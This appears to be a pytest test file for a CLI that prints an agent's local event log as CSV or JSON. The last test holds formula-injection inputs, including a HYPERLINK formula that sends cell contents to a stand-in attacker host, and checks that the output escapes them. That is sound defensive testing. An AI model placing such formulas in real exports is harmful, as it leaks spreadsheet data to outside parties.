"""``wardcast agent-log``: the local event log printed from the state directory."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from agents.config import add_log_arguments
from agents.store import SqliteStore, log_main
from wardcast.protocol import Event, EventType, encode

AT = datetime(2026, 11, 28, 23, 0, 0, 4000, tzinfo=UTC)


def parse(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    add_log_arguments(parser)
    return parser.parse_args(list(argv))


def fill(state_dir: Path) -> SqliteStore:
    """Log three events, confirm the first; the store stays open, as in a running agent."""
    store = SqliteStore(state_dir / "agent.sqlite3")
    for n, type_ in enumerate((EventType.STARTED, EventType.INTERRUPTED, EventType.ACCEPTED)):
        event = Event(event_id=f"evt-{n:05d}", playback_id=500 + n, type=type_, at=AT,
                      clock_offset_ms=-12, boot_id="boot-1",
                      position_ms=2000 if type_ is EventType.INTERRUPTED else None,
                      reason="agent_restarted" if type_ is EventType.INTERRUPTED else None)
        store.add_event(event, encode(event))
    store.mark_published("evt-00000")
    store.confirm(["evt-00000"])
    return store


def test_csv_lists_every_event_in_creation_order(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    store = fill(tmp_path)
    assert log_main(parse("--state-dir", str(tmp_path))) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["event_id"] for r in rows] == ["evt-00000", "evt-00001", "evt-00002"]
    assert rows[1] | {"seq": "2"} == {
        "seq": "2", "event_id": "evt-00001", "playback_id": "501", "type": "interrupted",
        "at": "2026-11-28T23:00:00.004Z", "clock_offset_ms": "-12", "boot_id": "boot-1",
        "position_ms": "2000", "reason": "agent_restarted", "published_at": "",
        "confirmed_at": ""}
    assert rows[0]["published_at"] and rows[0]["confirmed_at"]
    store.close()  # and after the agent stopped (its WAL checkpointed and removed)
    assert log_main(parse("--state-dir", str(tmp_path))) == 0
    assert len(capsys.readouterr().out.splitlines()) == 4


def test_json_output_while_the_agent_writes(tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    store = fill(tmp_path)
    assert log_main(parse("--state-dir", str(tmp_path), "--format", "json")) == 0
    first = json.loads(capsys.readouterr().out)
    event = Event(event_id="evt-00003", playback_id=9, type=EventType.FINISHED, at=AT)
    store.add_event(event, encode(event))  # the writer goes on; the reader sees commits
    assert log_main(parse("--state-dir", str(tmp_path), "--format", "json")) == 0
    second = json.loads(capsys.readouterr().out)
    assert [e["event_id"] for e in second] == [e["event_id"] for e in first] + ["evt-00003"]
    assert second[1]["position_ms"] == 2000 and second[2]["position_ms"] is None
    store.close()


def test_a_state_dir_without_a_database_is_an_error(tmp_path: Path) -> None:
    assert log_main(parse("--state-dir", str(tmp_path / "nothing"))) == 1
    assert not (tmp_path / "nothing").exists()  # reading never creates anything


def test_csv_reasons_never_reach_a_spreadsheet_as_formulas(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = SqliteStore(tmp_path / "agent.sqlite3")
    reasons = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+SUM(1)", "@SUM(1)",
               "-1+1", "\t=1", "decoder crashed"]
    for n, reason in enumerate(reasons):
        event = Event(event_id=f"evt-{n:05d}", playback_id=700 + n, type=EventType.FAILED,
                      at=AT, clock_offset_ms=-12, reason=reason)
        store.add_event(event, encode(event))
    store.close()
    assert log_main(parse("--state-dir", str(tmp_path))) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["reason"] for r in rows] == [f"'{r}" for r in reasons[:-1]] + ["decoder crashed"]
    assert {r["clock_offset_ms"] for r in rows} == {"-12"}  # a number, not text: unchanged
